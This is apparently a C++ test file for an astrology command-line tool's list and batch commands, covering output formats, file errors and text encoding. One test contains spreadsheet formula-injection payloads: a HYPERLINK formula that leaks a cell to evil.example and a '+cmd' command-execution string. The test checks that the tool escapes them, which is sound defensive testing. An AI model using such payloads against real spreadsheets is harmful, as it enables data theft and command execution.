// velloran-cli list and batch, run in-process on readings and births files of a test folder.

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <new>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "CliSamples.h"
#include "collection/Csv.h"
#include "domain/PositionsChoice.h"
#include "domain/Text.h"
#include "support/Json.h"
#include "support/TempFolder.h"

namespace velloran {
namespace {

using test::Json;
using test::JsonReader;

Json Parsed(const std::string& text) {
    std::string error;
    auto json = JsonReader::Parse(text, error);
    EXPECT_TRUE(json) << error << "\n" << text;
    return json.value_or(Json{});
}

bool SameJson(const Json& a, const Json& b) {
    if (a.type != b.type || a.boolean != b.boolean || a.text != b.text ||
        a.items.size() != b.items.size() || a.members.size() != b.members.size())
        return false;
    if (a.type == Json::Type::Number && a.number != b.number) return false;
    for (std::size_t i = 0; i < a.items.size(); ++i)
        if (!SameJson(a.items[i], b.items[i])) return false;
    for (const auto& [key, value] : a.members) {
        const Json* other = b.Find(key);
        if (other == nullptr || !SameJson(value, *other)) return false;
    }
    return true;
}

class CliCollectionTest : public test::CliTwoReadings {
protected:
    const char* FolderName() const override { return "velloran-cli-collection"; }
    std::string Path(const std::string& name) const { return m_folder->Path(name); }
    std::string Out() const { return m_out.str(); }
    std::string Err() const { return m_err.str(); }

    Json ShowJson(const std::string& file, const std::vector<std::string>& positions = {}) {
        std::vector<std::string> args{"show", file, "--json"};
        args.insert(args.end(), positions.begin(), positions.end());
        EXPECT_EQ(Run(args), kExitOk) << Err();
        return Parsed(Out());
    }
    void ExpectOneLineError(const std::string& what) {
        EXPECT_EQ(Err().rfind("velloran-cli: ", 0), 0u) << Err();
        EXPECT_EQ(Err().find('\n'), Err().size() - 1) << Err();
        EXPECT_NE(Err().find(what), std::string::npos) << Err();
        EXPECT_EQ(Out(), "");
    }
};

// The sign names of a show --json chart: Sun, Moon and rising.
std::vector<std::string> ShownSigns(const Json& chart) {
    return {chart.Find("bodies")->items[0].Find("sign")->text,
            chart.Find("bodies")->items[1].Find("sign")->text, chart.Find("risingSign")->text};
}
// True when text is well-formed UTF-8 (shortest forms, no surrogates) without NUL: what a JSON
// or CSV reader takes without complaint.
bool IsUtf8WithoutNul(const std::string& text) {
    for (std::size_t i = 0; i < text.size();) {
        const auto b = static_cast<unsigned char>(text[i]);
        if (b == 0) return false;
        const std::size_t n = b < 0x80                 ? 1
                              : b >= 0xC2 && b <= 0xDF ? 2
                              : b >= 0xE0 && b <= 0xEF ? 3
                              : b >= 0xF0 && b <= 0xF4 ? 4
                                                       : 0;
        if (n == 0 || i + n > text.size()) return false;
        char32_t code = n == 1 ? b : b & (0x7F >> n);
        for (std::size_t k = 1; k < n; ++k) {
            const auto c = static_cast<unsigned char>(text[i + k]);
            if ((c & 0xC0) != 0x80) return false;
            code = (code << 6) | (c & 0x3F);
        }
        const char32_t least[] = {0, 0, 0x80, 0x800, 0x10000};
        if (code < least[n] || (code >= 0xD800 && code <= 0xDFFF) || code > 0x10FFFF) return false;
        i += n;
    }
    return true;
}

// The lines of a JSON Lines file, each parsed.
std::vector<Json> JsonLines(const std::string& text) {
    std::istringstream lines(text);
    std::vector<Json> rows;
    for (std::string line; std::getline(lines, line);) rows.push_back(Parsed(line));
    return rows;
}

// A CSV output's cell of the named column in row r (from 1, after the header).
std::string Cell(const CsvTable& table, std::size_t r, const std::string& column) {
    const std::vector<std::string>& header = table.rows.at(0).fields;
    const auto at = std::find(header.begin(), header.end(), column);
    if (at == header.end()) return "(no column " + column + ")";
    return table.rows.at(r).fields.at(static_cast<std::size_t>(at - header.begin()));
}

std::vector<std::string> ListedSigns(const Json& signs) {
    return {signs.Find("sun")->text, signs.Find("moon")->text, signs.Find("rising")->text};
}

TEST_F(CliCollectionTest, ListShowsEveryReadingWithTheSignsShowGives) {
    std::filesystem::create_directory(Path("more"));
    ASSERT_EQ(Run(test::DelhiNewArgs(Path("more/delhi.vlr"))), kExitOk) << Err();
    test::WriteFileBytes(Path("more/broken.vlr"), "1\r\n2\r\n");
    for (const std::vector<std::string>& positions :
         {std::vector<std::string>{}, std::vector<std::string>{"--positions", "precise"}}) {
        std::vector<std::string> args{"list", m_folder->dir().string(), "--json"};
        args.insert(args.end(), positions.begin(), positions.end());
        ASSERT_EQ(Run(args), kExitOk) << Err();
        const Json list = Parsed(Out());
        ASSERT_EQ(list.items.size(), 4u) << Out();
        const std::vector<std::string> files = {ann, Path("more/broken.vlr"),
                                                Path("more/delhi.vlr"), ravi};
        for (std::size_t i = 0; i < files.size(); ++i) {
            const Json& entry = list.items[i];
            EXPECT_EQ(entry.Find("file")->text, files[i]);
            if (i == 1) {
                EXPECT_EQ(entry.Find("error")->text, "damaged reading file");
                EXPECT_EQ(entry.Find("natal")->type, Json::Type::Null);
                continue;
            }
            EXPECT_EQ(entry.Find("error")->type, Json::Type::Null);
            if (i == 0) {
                EXPECT_EQ(entry.Find("birth")->Find("date")->text, "1980-01-15");
                EXPECT_EQ(entry.Find("birth")->Find("time")->text, "10:30");
            }
            const Json shown = ShowJson(files[i], positions);
            EXPECT_EQ(entry.Find("name")->text, shown.Find("name")->text);
            EXPECT_EQ(entry.Find("place")->Find("city")->text,
                      shown.Find("birth")->Find("city")->text);
            EXPECT_EQ(ListedSigns(*entry.Find("natal")), ShownSigns(*shown.Find("natal")));
            EXPECT_EQ(ListedSigns(*entry.Find("draconic")), ShownSigns(*shown.Find("draconic")));
        }
    }
}

TEST_F(CliCollectionTest, ListTextHasALineForEachReadingAndTheReasonOfADamagedOne) {
    test::WriteFileBytes(Path("zz-broken.vlr"), "garbage");
    ASSERT_EQ(Run({"list", m_folder->dir().string()}), kExitOk) << Err();
    std::istringstream lines(Out());
    std::vector<std::string> all;
    for (std::string line; std::getline(lines, line);) all.push_back(line);
    ASSERT_EQ(all.size(), 4u) << Out();
    EXPECT_EQ(all[0].rfind("File", 0), 0u);
    EXPECT_EQ(all[1].rfind(ann, 0), 0u);
    // Each cell starts where its heading does.
    for (const auto& [heading, cell] :
         std::vector<std::pair<std::string, std::string>>{{"Name", "Ann Example "},
                                                          {"Born", "1980-01-15 10:30 "},
                                                          {"Place", "New York, NY, USA "},
                                                          {"Natal Sun", "Capricorn "}}) {
        EXPECT_EQ(all[1].find(cell), all[0].find(heading)) << heading << "\n" << Out();
    }
    EXPECT_EQ(all[2].rfind(ravi, 0), 0u);
    EXPECT_EQ(all[3].rfind(Path("zz-broken.vlr"), 0), 0u);
    EXPECT_NE(all[3].find("(damaged reading file)"), std::string::npos) << all[3];
}

TEST_F(CliCollectionTest, ListOfAFolderThatCannotBeReadFailsWithOneLine) {
    EXPECT_EQ(Run({"list", Path("missing")}), kExitFailure);
    ExpectOneLineError("no such folder");
    EXPECT_EQ(Run({"list", ann}), kExitFailure);
    ExpectOneLineError("not a folder");
}

// A file name with an escape sequence or a line break is shown quoted, each control character as
// '?', as the error messages show names: it neither acts on the terminal nor breaks the table.
TEST_F(CliCollectionTest, ListQuotesANameWithControlCharacters) {
    test::WriteFileBytes(Path("esc\x1b[31mred.vlr"), test::ReadFileBytes(ann));
    test::WriteFileBytes(Path("two\nlines.vlr"), "garbage");
    ASSERT_EQ(Run({"list", m_folder->dir().string()}), kExitOk) << Err();
    EXPECT_EQ(Out().find('\x1b'), std::string::npos) << Out();
    std::istringstream lines(Out());
    std::vector<std::string> all;
    for (std::string line; std::getline(lines, line);) all.push_back(line);
    ASSERT_EQ(all.size(), 5u) << Out();  // the heading and four readings, one line each
    EXPECT_EQ(all[2].rfind("'" + Path("esc?[31mred.vlr") + "'", 0), 0u) << all[2];
    EXPECT_NE(all[2].find("Ann Example"), std::string::npos) << all[2];
    EXPECT_EQ(all[4].rfind("'" + Path("two?lines.vlr") + "'", 0), 0u) << all[4];
    EXPECT_NE(all[4].find("(damaged reading file)"), std::string::npos) << all[4];
    EXPECT_EQ(all[1].rfind(ann + " ", 0), 0u) << all[1];  // a plain name stays as it is
}

// Sets an environment variable for the test's lifetime (none: unset).
class ScopedEnv {
public:
    ScopedEnv(const char* name, const char* value) : m_name(name) {
        if (const char* old = std::getenv(name)) m_old = old;
        if (value) {
            ::setenv(name, value, 1);
        } else {
            ::unsetenv(name);
        }
    }
    ~ScopedEnv() {
        if (m_old) {
            ::setenv(m_name, m_old->c_str(), 1);
        } else {
            ::unsetenv(m_name);
        }
    }
    ScopedEnv(const ScopedEnv&) = delete;
    ScopedEnv& operator=(const ScopedEnv&) = delete;

private:
    const char* m_name;
    std::optional<std::string> m_old;
};

// Without a folder, list lists the program's readings folder: the one chosen in the library
// (the settings file), else Velloran in the documents folder; before the first save that folder
// is not there, which is no failure.
TEST_F(CliCollectionTest, ListWithoutAFolderListsTheProgramsReadingsFolder) {
    const std::string home = Path("home");
    ScopedEnv homeVar("HOME", home.c_str());
    ScopedEnv config("XDG_CONFIG_HOME", nullptr);
    const std::string documents = home + "/Documents/Velloran";

    ASSERT_EQ(Run({"list"}), kExitOk) << Err();
    EXPECT_EQ(Out().rfind("File ", 0), 0u);
    EXPECT_EQ(Out().find('\n'), Out().size() - 1) << Out();  // the heading alone
    EXPECT_NE(Err().find("'" + documents + "': no readings yet"), std::string::npos) << Err();
    ASSERT_EQ(Run({"list", "--json"}), kExitOk) << Err();
    EXPECT_EQ(Out(), "[]\n");

    std::filesystem::create_directories(documents);
    std::filesystem::copy_file(ann, documents + "/ann.vlr");
    ASSERT_EQ(Run({"list"}), kExitOk) << Err();
    EXPECT_NE(Out().find(documents + "/ann.vlr"), std::string::npos) << Out();

    // The desktop's documents folder, then the folder chosen in the library.
    std::filesystem::create_directories(home + "/.config/velloran");
    std::filesystem::create_directories(home + "/Papers/Velloran");
    std::filesystem::copy_file(ravi, home + "/Papers/Velloran/ravi.vlr");
    test::WriteFileBytes(home + "/.config/user-dirs.dirs",
                         "# written by xdg-user-dirs-update\nXDG_DOCUMENTS_DIR=\"$HOME/Papers\"\n");
    ASSERT_EQ(Run({"list"}), kExitOk) << Err();
    EXPECT_NE(Out().find(home + "/Papers/Velloran/ravi.vlr"), std::string::npos) << Out();
    std::filesystem::create_directories(Path("chosen"));
    std::filesystem::copy_file(ann, Path("chosen/ann.vlr"));
    test::WriteFileBytes(home + "/.config/velloran/velloran.conf",
                         "[General]\nFolder=/elsewhere\n\n[Library]\nColumnWidths=1,2\nFolder=" +
                             Path("chosen") + "/\n");
    ASSERT_EQ(Run({"list"}), kExitOk) << Err();
    EXPECT_NE(Out().find(Path("chosen/ann.vlr")), std::string::npos) << Out();
    EXPECT_EQ(Out().find("Papers"), std::string::npos) << Out();
}

// A births file of the known birth and the Pune birth, its columns in the order given.
std::string BirthsFile(const std::string& header) {
    const std::vector<std::string> columns = {"name", "date", "time", "zone",  "lat",
                                              "lon",  "dst",  "city", "state", "country"};
    const std::vector<std::vector<std::string>> births = {
        {"Ann Example", "1980-01-15", "10:30", std::to_string(test::KnownBirthForm().zoneIndex),
         "40:43N", "74:00W", "no", "New York", "NY", "USA"},
        {"Ravi Example", "1980-03-05", "07:05", "12", "18:31N", "73:51E", "no", "Pune",
         "Maharashtra", "India"}};
    const CsvTable order = ReadCsv(header);
    std::string text = WriteCsvRow(order.rows.front().fields);
    for (const auto& birth : births) {
        std::vector<std::string> row;
        for (const std::string& name : order.rows.front().fields) {
            const auto at = std::find(columns.begin(), columns.end(), name) - columns.begin();
            row.push_back(birth[static_cast<std::size_t>(at)]);
        }
        text += WriteCsvRow(row);
    }
    return text;
}

TEST_F(CliCollectionTest, BatchRowsCarryTheBodiesShowGives) {
    const std::string births = Path("births.csv");
    test::WriteFileBytes(births, BirthsFile("country,lon,name,time,zone,date,lat,city,state,dst"));
    for (const std::vector<std::string>& positions :
         {std::vector<std::string>{}, std::vector<std::string>{"--positions", "precise"},
          std::vector<std::string>{"--positions", "precise", "--node", "true"}}) {
        std::vector<std::string> args{"batch", births, "-o", Path("out.jsonl")};
        args.insert(args.end(), positions.begin(), positions.end());
        ASSERT_EQ(Run(args), kExitOk) << Err();
        std::istringstream lines(test::ReadFileBytes(Path("out.jsonl")));
        std::vector<Json> rows;
        for (std::string line; std::getline(lines, line);) rows.push_back(Parsed(line));
        ASSERT_EQ(rows.size(), 2u);
        for (std::size_t i = 0; i < 2; ++i) {
            const Json shown = ShowJson(i == 0 ? ann : ravi, positions);
            const Json& row = rows[i];
            EXPECT_EQ(row.Find("name")->text, shown.Find("name")->text);
            EXPECT_EQ(row.Find("error")->type, Json::Type::Null);
            for (const char* chart : {"natal", "draconic"}) {
                const Json& bodies = *shown.Find(chart)->Find("bodies");
                EXPECT_TRUE(SameJson(*row.Find(chart), bodies)) << chart << " of row " << i;
            }
            EXPECT_EQ(row.Find("contacts")->number,
                      static_cast<double>(shown.Find("contacts")->items.size()));
        }

        // The CSV output holds the same values, one column group per body.
        args[3] = Path("out.csv");
        ASSERT_EQ(Run(args), kExitOk) << Err();
        const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
        ASSERT_EQ(table.error, "");
        ASSERT_EQ(table.rows.size(), 3u);
        const std::vector<std::string>& header = table.rows[0].fields;
        const Json shown = ShowJson(ann, positions);
        const std::vector<std::string>& row = table.rows[1].fields;
        ASSERT_EQ(row.size(), header.size());
        const auto field = [&](const std::string& name) {
            const auto at = std::find(header.begin(), header.end(), name);
            return at == header.end() ? std::string("(no column)")
                                      : row[static_cast<std::size_t>(at - header.begin())];
        };
        const Json& draconicMoon = shown.Find("draconic")->Find("bodies")->items[1];
        EXPECT_EQ(std::stod(field("draconic_moon_longitude")),
                  draconicMoon.Find("longitude")->number);
        EXPECT_EQ(field("draconic_moon_sign"), draconicMoon.Find("sign")->text);
        EXPECT_EQ(field("draconic_moon_house"),
                  std::to_string(static_cast<int>(draconicMoon.Find("house")->number)));
        EXPECT_EQ(field("natal_saturn_retrograde"),
                  shown.Find("natal")->Find("bodies")->items[6].Find("retrograde")->boolean ? "yes"
                                                                                            : "no");
        EXPECT_EQ(field("contacts"), std::to_string(shown.Find("contacts")->items.size()));
        EXPECT_EQ(field("error"), "");
        // The bodies' columns, contacts and error, then the place, coordinates, zone and houses.
        EXPECT_EQ(header.size(),
                  (positions.empty() ? 2u + 2 * 10 * 4 + 1 : 2u + 2 * 15 * 4 + 1) + 7);
    }
}

TEST_F(CliCollectionTest, RefusedRowsKeepTheirPlaceWithTheFormsMessage) {
    const std::string births = Path("births.csv");
    const std::string good = "1980-01-15,10:30,20,40:43N,74:00W,no,New York,NY,USA\n";
    test::WriteFileBytes(births,
                         "name,date,time,zone,lat,lon,dst,city,state,country\n"
                         "First," +
                             good +
                             "Too far north,1980-01-15,10:30,20,91:00N,74:00W,no,New York,NY,USA\n"
                             "No such month,1980-13-15,10:30,20,40:43N,74:00W,no,New York,NY,USA\n"
                             ",1980-01-15,10:30,20,40:43N,74:00W,no,New York,NY,USA\n"
                             "Short row,1980-01-15\n"
                             "Odd dst,1980-01-15,10:30,20,40:43N,74:00W,maybe,New York,NY,USA\n"
                             "Last," +
                             good);
    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
    EXPECT_NE(Err().find("5 of 7 births could not be calculated"), std::string::npos) << Err();
    const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
    ASSERT_EQ(table.rows.size(), 8u);
    const std::vector<std::pair<std::string, std::string>> expected = {
        {"First", ""},
        {"Too far north", "Please Enter Degree of Latitude From 0 To 90"},
        {"No such month", "the date column '1980-13-15': the month must lie in 1..12"},
        {"", "Please Enter Your Name"},
        {"Short row", "the row has 2 fields where the header has 10"},
        {"Odd dst", "the dst column 'maybe': expected yes or no"},
        {"Last", ""}};
    const std::vector<std::string>& header = table.rows[0].fields;
    const auto errorColumn =
        static_cast<std::size_t>(std::find(header.begin(), header.end(), "error") - header.begin());
    for (std::size_t i = 0; i < expected.size(); ++i) {
        const std::vector<std::string>& row = table.rows[i + 1].fields;
        ASSERT_EQ(row.size(), header.size()) << i;
        EXPECT_EQ(row.front(), expected[i].first) << i;
        EXPECT_EQ(row[errorColumn], expected[i].second) << i;
        // A refused row has no values; a calculated one has its Sun's sign.
        EXPECT_EQ(row[2].empty(), !expected[i].second.empty()) << i;
    }
}

TEST_F(CliCollectionTest, BatchTakesThePlaceAsNewTakesIt) {
    const std::string births = Path("births.csv");
    test::WriteFileBytes(births,
                         "\xEF\xBB\xBFname,place,date,time\r\n"
                         "Ann,\"Zurich, Switzerland\",1990-07-01,12:00\r\n"
                         "Nobody,qqqq,1990-07-01,12:00\r\n");
    ASSERT_EQ(Run({"batch", births, "-o", Path("out.jsonl")}), kExitOk) << Err();
    ASSERT_EQ(Run({"new", "--name", "Ann", "--place", "Zurich, Switzerland", "--date", "1990-07-01",
                   "--time", "12:00", "-o", Path("zurich.vlr")}),
              kExitOk)
        << Err();
    const Json shown = ShowJson(Path("zurich.vlr"));
    std::istringstream lines(test::ReadFileBytes(Path("out.jsonl")));
    std::vector<Json> rows;
    for (std::string line; std::getline(lines, line);) rows.push_back(Parsed(line));
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_TRUE(SameJson(*rows[0].Find("natal"), *shown.Find("natal")->Find("bodies")));
    EXPECT_TRUE(SameJson(*rows[0].Find("draconic"), *shown.Find("draconic")->Find("bodies")));
    EXPECT_EQ(rows[1].Find("name")->text, "Nobody");
    EXPECT_EQ(rows[1].Find("natal")->type, Json::Type::Null);
    EXPECT_EQ(rows[1].Find("error")->text, "the place column 'qqqq': no place matches");
}

TEST_F(CliCollectionTest, BatchRefusesAFileItCannotReadWithOneLine) {
    const std::string births = Path("births.csv");
    struct Case {
        const char* text;
        const char* message;
    };
    const std::vector<Case> cases = {
        {"name,birthday,time,zone\n", "unknown column 'birthday'"},
        {"name,date,date,time,zone\n", "column 'date' given twice"},
        {"name,date,time,lat,lon\n", "the header needs date, time, and zone or place"},
        {"", "no header row"},
        {"name,date,time,zone\nA,\"1980-01-15\n,10:30,20\n",
         "line 2: a quoted field is not closed"},
    };
    for (const Case& c : cases) {
        test::WriteFileBytes(births, c.text);
        EXPECT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitFailure) << c.message;
        ExpectOneLineError(c.message);
        EXPECT_FALSE(std::filesystem::exists(Path("out.csv"))) << c.message;
    }
    EXPECT_EQ(Run({"batch", births, "-o", Path("out.txt")}), kExitFailure);
    ExpectOneLineError("must end in .csv or .jsonl");
    EXPECT_EQ(Run({"batch", Path("missing.csv"), "-o", Path("out.csv")}), kExitFailure);
    ExpectOneLineError("no such file");
}

TEST_F(CliCollectionTest, BatchOutputIsUtf8TextNoSpreadsheetRunsAsAFormula) {
    const std::string births = Path("births.csv");
    const std::string birth = ",1980-01-15,10:30,20,40:43N,74:00W,no,New York,NY,USA\n";
    // Names a spreadsheet would run, and names with bytes that are not text; a row whose zone is
    // left empty is refused in the words of the columns.
    const std::vector<std::string> names = {
        "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "Bad \xFF byte",
        "Surrogate \xED\xA0\x80",
        std::string("Nul\0byte", 8)};
    std::string text = "name,date,time,zone,lat,lon,dst,city,state,country\n";
    for (const std::string& name : names) {
        const bool quoted = name.find('"') != std::string::npos;
        text += (quoted ? "\"" + name + "\"" : name) + birth;
    }
    text += "=1+1,1980-01-15,10:30,,40:43N,74:00W,no,New York,NY,USA\n";
    test::WriteFileBytes(births, text);

    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
    EXPECT_NE(Err().find("rows hold bytes that are not UTF-8 text (or NUL); the output has U+FFFD"),
              std::string::npos)
        << Err();
    const std::string csv = test::ReadFileBytes(Path("out.csv"));
    EXPECT_TRUE(IsUtf8WithoutNul(csv));
    const CsvTable table = ReadCsv(csv);
    ASSERT_EQ(table.error, "");
    ASSERT_EQ(table.rows.size(), names.size() + 2);
    const std::vector<std::string> expected = {
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
        "Bad \uFFFD byte",
        "Surrogate \uFFFD\uFFFD\uFFFD",
        "Nul\uFFFDbyte",
        "'=1+1"};
    for (std::size_t r = 1; r < table.rows.size(); ++r) {
        EXPECT_EQ(Cell(table, r, "name"), expected[r - 1]) << r;
        const std::string error = Cell(table, r, "error");
        EXPECT_TRUE(error.empty() || std::string("=+-@\t\r").find(error[0]) == std::string::npos)
            << error;
    }
    EXPECT_EQ(Cell(table, table.rows.size() - 1, "error"), "the zone column is empty");

    // The same births as JSON Lines: every line a JSON object in UTF-8, refused rows too.
    ASSERT_EQ(Run({"batch", births, "-o", Path("out.jsonl")}), kExitOk) << Err();
    const std::string jsonl = test::ReadFileBytes(Path("out.jsonl"));
    EXPECT_TRUE(IsUtf8WithoutNul(jsonl));
    const std::vector<Json> rows = JsonLines(jsonl);
    ASSERT_EQ(rows.size(), names.size() + 1);
    EXPECT_EQ(rows[4].Find("name")->text, "Bad \uFFFD byte");
    EXPECT_EQ(rows[5].Find("name")->text, "Surrogate \uFFFD\uFFFD\uFFFD");
    EXPECT_EQ(rows.back().Find("error")->text, "the zone column is empty");
}

TEST_F(CliCollectionTest, ListJsonOfAFileNameThatIsNotUtf8IsStillJson) {
    const std::string folder = Path("library");
    std::filesystem::create_directory(folder);
    const std::string odd = folder + "/odd \xFF\xED\xA0\x80.vlr";
    test::WriteFileBytes(odd, test::ReadFileBytes(ann));
    ASSERT_EQ(Run({"list", folder, "--json"}), kExitOk) << Err();
    EXPECT_TRUE(IsUtf8WithoutNul(Out()));
    const Json listed = Parsed(Out());
    ASSERT_EQ(listed.items.size(), 1u);
    EXPECT_EQ(listed.items[0].Find("file")->text, folder + "/odd \uFFFD\uFFFD\uFFFD\uFFFD.vlr");
}

TEST_F(CliCollectionTest, BatchSaysWhereTheHousesFellBackToPorphyry) {
    const std::string births = Path("births.csv");
    test::WriteFileBytes(births,
                         "name,date,time,zone,lat,lon,city,state,country\n"
                         "Tromso,1980-06-21,12:00,20,69:39N,18:57E,Tromso,Troms,Norway\n"
                         "New York,1980-01-15,10:30,20,40:43N,74:00W,New York,NY,USA\n");
    const std::string note = HousesFallbackNote(HouseSystem::Placidus, HouseSystem::Porphyry);
    const std::vector<std::string> precise = {"--positions", "precise", "--houses", "placidus"};
    std::vector<std::string> args{"batch", births, "-o", Path("out.csv")};
    args.insert(args.end(), precise.begin(), precise.end());
    ASSERT_EQ(Run(args), kExitOk) << Err();
    EXPECT_NE(Err().find("velloran-cli: note: batch: 1 of 2 births: " + note +
                         " (see their houses_note column)\n"),
              std::string::npos)
        << Err();
    const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
    ASSERT_EQ(table.rows.size(), 3u);
    EXPECT_EQ(Cell(table, 1, "houses_note"), note);
    EXPECT_EQ(Cell(table, 2, "houses_note"), "");

    args[3] = Path("out.jsonl");
    ASSERT_EQ(Run(args), kExitOk) << Err();
    const std::vector<Json> rows = JsonLines(test::ReadFileBytes(Path("out.jsonl")));
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_EQ(rows[0].Find("housesNote")->text, note);
    EXPECT_EQ(rows[1].Find("housesNote")->type, Json::Type::Null);
}

TEST_F(CliCollectionTest, BatchNamesThePlaceItUsedAndRefusesAVagueOne) {
    const std::string births = Path("births.csv");
    test::WriteFileBytes(births,
                         "name,place,date,time\n"
                         "Ann,\"Zurich, Switzerland\",1990-07-01,12:00\n"
                         "Bob,Springfield,1990-07-01,12:00\n");
    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
    const CsvTable table = ReadCsv(test::ReadFileBytes(Path("out.csv")));
    ASSERT_EQ(table.rows.size(), 3u);
    EXPECT_EQ(Cell(table, 1, "place"), "Zurich, Canton of Zurich, Switzerland");
    EXPECT_NEAR(std::stod(Cell(table, 1, "latitude")), 47 + 22 / 60.0, 1e-9);
    EXPECT_NEAR(std::stod(Cell(table, 1, "longitude")), 8 + 33 / 60.0, 1e-9);
    // Central European Time with daylight saving, as the atlas gives Zurich's summer.
    EXPECT_EQ(Cell(table, 1, "zone"), "20");
    EXPECT_EQ(Cell(table, 1, "daylight_saving"), "yes");
    EXPECT_EQ(Cell(table, 1, "error"), "");
    // Springfield, Missouri and Springfield, Massachusetts are much the same size.
    EXPECT_EQ(Cell(table, 2, "natal_sun_sign"), "");
    const std::string vague = Cell(table, 2, "error");
    EXPECT_EQ(vague.rfind("the place column 'Springfield' matches places of similar size (", 0), 0u)
        << vague;
    EXPECT_NE(vague.find("Springfield, Missouri"), std::string::npos) << vague;
    EXPECT_NE(vague.find("Springfield, Massachusetts"), std::string::npos) << vague;
    EXPECT_EQ(Cell(table, 2, "place"), "");

    ASSERT_EQ(Run({"batch", births, "-o", Path("out.jsonl")}), kExitOk) << Err();
    const std::vector<Json> rows = JsonLines(test::ReadFileBytes(Path("out.jsonl")));
    ASSERT_EQ(rows.size(), 2u);
    const Json& place = *rows[0].Find("place");
    EXPECT_EQ(place.Find("name")->text, "Zurich, Canton of Zurich, Switzerland");
    EXPECT_EQ(place.Find("zoneIndex")->number, 20);
    EXPECT_TRUE(place.Find("daylightSaving")->boolean);
    EXPECT_EQ(rows[1].Find("place")->type, Json::Type::Null);
    EXPECT_EQ(rows[1].Find("error")->text, vague);

    // A row with its own place columns has them in the output, with its zone.
    test::WriteFileBytes(births, BirthsFile("name,date,time,zone,lat,lon,dst,city,state,country"));
    ASSERT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitOk) << Err();
    const CsvTable own = ReadCsv(test::ReadFileBytes(Path("out.csv")));
    ASSERT_EQ(own.rows.size(), 3u);
    EXPECT_EQ(Cell(own, 1, "place"), "New York, NY, USA");
    EXPECT_NEAR(std::stod(Cell(own, 1, "latitude")), 40 + 43 / 60.0, 1e-9);
    EXPECT_NEAR(std::stod(Cell(own, 1, "longitude")), -74.0, 1e-9);
    EXPECT_EQ(Cell(own, 1, "zone"), std::to_string(test::KnownBirthForm().zoneIndex));
    EXPECT_EQ(Cell(own, 1, "zone_label"), "Eastern Standard Time,EST,-5.0");
    EXPECT_EQ(Cell(own, 1, "daylight_saving"), "no");
}

TEST_F(CliCollectionTest, BatchFailsWhenNoBirthIsCalculated) {
    const std::string births = Path("births.csv");
    test::WriteFileBytes(births,
                         "name,date,time,zone\n"
                         "A,1980-13-01,10:30,20\n"
                         "B,1980-01-01,25:00,20\n");
    EXPECT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitFailure);
    EXPECT_EQ(Err(),
              "velloran-cli: batch: none of the 2 births could be calculated (see their error "
              "column)\n");
    // The rows still say why.
    EXPECT_EQ(ReadCsv(test::ReadFileBytes(Path("out.csv"))).rows.size(), 3u);

    test::WriteFileBytes(births, "name,date,time,zone\n");
    EXPECT_EQ(Run({"batch", births, "-o", Path("out.csv")}), kExitFailure);
    ExpectOneLineError("has no births (only the header); nothing was calculated");
}

// The real files, with each piece of output written counted; when asked, the births file's
// third piece runs out of memory, while the rows of the first are being calculated and written.
class CountingFiles : public DiskFiles {
public:
    bool WriteFrom(const std::string& path, const FileFiller& fill, std::string& reason) override {
        const FileFiller counted = [&](const PieceSink& put, std::string& why) {
            return fill(
                [&](std::string_view piece) {
                    pieces.push_back(piece.size());
                    return put(piece);
                },
                why);
        };
        return DiskFiles::WriteFrom(path, counted, reason);
    }
    bool Write(const std::string& path, std::string_view bytes, std::string& reason) override {
        pieces.push_back(bytes.size());
        return DiskFiles::Write(path, bytes, reason);
    }
    std::optional<Pieces> ReadPieces(const std::string& path, std::size_t limit,
                                     std::string& reason) override {
        auto real = DiskFiles::ReadPieces(path, limit, reason);
        if (!real || !outOfMemory || opened++ > 0) return real;
        return [real = *real, calls = 0](char* into,
                                         std::size_t size) mutable -> std::optional<std::size_t> {
            if (++calls == 3) throw std::bad_alloc();
            return real(into, size);
        };
    }
    std::vector<std::size_t> pieces;
    bool outOfMemory = false;
    int opened = 0;
};

TEST_F(CliCollectionTest, BatchWritesItsRowsInPiecesAsTheyAreCalculated) {
    const std::string births = Path("births.csv");
    std::string text = "name,date,time,zone,lat,lon,city,state,country\n";
    constexpr int kBirths = 3000;
    for (int i = 0; i < kBirths; ++i)
        text += "P" + std::to_string(i) + ",1980-01-" + TwoDigits(1 + i % 28) +
                ",10:" + TwoDigits(i % 60) + ",20,40:43N,74:00W,New York,NY,USA\n";
    test::WriteFileBytes(births, text);
    CountingFiles files;
    ASSERT_EQ(RunCli({"batch", births, "-o", Path("out.jsonl")}, m_out, m_err, files), kExitOk)
        << Err();
    const std::string written = test::ReadFileBytes(Path("out.jsonl"));
    ASSERT_EQ(JsonLines(written).size(), static_cast<std::size_t>(kBirths));
    // Some megabytes of rows, none of the pieces more than a little over one megabyte.
    ASSERT_GT(written.size(), std::size_t{4} << 20);
    EXPECT_GT(files.pieces.size(), 3u);
    EXPECT_LE(*std::max_element(files.pieces.begin(), files.pieces.end()),
              (std::size_t{1} << 20) + 64 * 1024);

    // Memory that runs out is one line and a failure; the earlier output is kept as it was and
    // nothing is left beside it.
    files.outOfMemory = true;
    files.pieces.clear();
    m_err.str("");
    EXPECT_EQ(RunCli({"batch", births, "-o", Path("out.jsonl")}, m_out, m_err, files),
              kExitFailure);
    EXPECT_EQ(Err(), "velloran-cli: out of memory\n");
    EXPECT_FALSE(files.pieces.empty());  // it ran out while writing
    EXPECT_EQ(test::ReadFileBytes(Path("out.jsonl")), written);
    for (const auto& entry : std::filesystem::directory_iterator(Path("")))
        EXPECT_EQ(entry.path().filename().string().rfind(".velloran-", 0), std::string::npos);
}

}  // namespace
}  // namespace velloran
